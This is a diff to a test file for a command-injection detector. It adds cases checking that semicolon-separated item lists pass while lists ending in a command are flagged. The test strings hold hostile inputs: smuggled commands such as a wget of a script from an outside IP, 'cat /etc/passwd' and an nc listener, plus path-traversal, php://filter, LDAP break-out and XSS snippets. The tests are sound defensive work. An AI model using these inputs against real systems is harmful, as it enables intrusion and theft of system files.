@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { InjectionDetector } from '../../src/security/injection-detector.js';
 import { payloadAfterSeparator, payloadCommandAt, payloadIn } from '../../src/security/payload-command.js';
+import { parameterAround, semicolonList } from '../../src/security/item-list.js';
 import { fenceRunsCode, fencedBlockEnd, inlineCodeSpan } from '../../src/security/quoted-code.js';
 import { carriersFlagging } from './carriers.js';
 
@@ -71,21 +72,15 @@ describe('a fence standing alone in its value is typed code', () => {
 });
 
 describe('code spans holding a break-out literal are not blanked', () => {
-  it.each([
-    'Node 18: `file:///etc/hostname` fails',
-    'error: `php://filter/resource=config.php` here',
-    'see `*)(mail=*` — why',
-    'PowerShell 5: `..\\..\\..\\boot.ini` fails',
-  ])('reported: %s', (v) => {
+  it.each(['Node 18: `file:///etc/hostname` fails', 'error: `php://filter/resource=config.php` here', 'see `*)(mail=*` — why', 'PowerShell 5: `..\\..\\..\\boot.ini` fails'])('reported: %s', (v) => {
     expect(carriers(v)).toEqual(ALL);
   });
-  it.each([
-    'LDAP question: `(&(objectClass=person)(uid=ann))` returns nothing, any idea?',
-    'Why does `dir /b D:\\builds\\*.zip` list nothing?',
-    'the link `https://example.org/a/b` is broken',
-  ])('clean: %s', (v) => {
-    expect(carriers(v)).toEqual([]);
-  });
+  it.each(['LDAP question: `(&(objectClass=person)(uid=ann))` returns nothing, any idea?', 'Why does `dir /b D:\\builds\\*.zip` list nothing?', 'the link `https://example.org/a/b` is broken'])(
+    'clean: %s',
+    (v) => {
+      expect(carriers(v)).toEqual([]);
+    },
+  );
   it('a balanced filter is a span; one closing what it did not open is not', () => {
     const ok = 'try `(uid=ann)` here';
     expect(inlineCodeSpan(ok, ok.indexOf('`'))).toBe(ok.lastIndexOf('`'));
@@ -107,5 +102,26 @@ describe('benign classes of forms8', () => {
   });
   it.each(['hi `-alert(1)-` there', 'hi `;alert(document.domain)//` x', 'a & ping localhost', 'x & less /etc/passwd', 'note & sleep 30'])('reported: %s', (v) => {
     expect(carriers(v).length).toBeGreaterThan(0);
+  });
+});
+
+describe('lists of items divided by `; ` start no command', () => {
+  it.each([
+    'Stack: Java; Node; Perl; Ruby on Rails; Git',
+    'Tools I use: nmap; Wireshark; Burp Suite; Python',
+    "Spellings: Kelly; Kelley; O'Kelly; Ó Ceallaigh",
+    'Rooms: hall; lounge (5m x 4m); kitchen/diner; wc',
+  ])('clean: %s', (v) => {
+    expect(carriers(v)).toEqual([]);
+  });
+  it.each(['a; b; c; id', 'one; two; three; whoami', 'x; y; z; wget 198.51.100.4/s.sh', 'a; b; c; cat /etc/passwd', 'a; b; c; sleep 9', 'a; b; c; nc -l 4444', 'x;id;y;z'])('reported: %s', (v) => {
+    expect(carriers(v)).toEqual(ALL);
+  });
+  it('reads the parameter holding the command, not the whole list of parameters', () => {
+    expect(semicolonList('java; node; perl; git')).toBe(true);
+    expect(semicolonList('java; node; perl')).toBe(false);
+    expect(semicolonList('java; node; perl; git $(x)')).toBe(false);
+    const q = 'q=java; node; perl; git&page=1';
+    expect(parameterAround(q, q.indexOf('git'))).toEqual([2, q.indexOf('&')]);
   });
 });
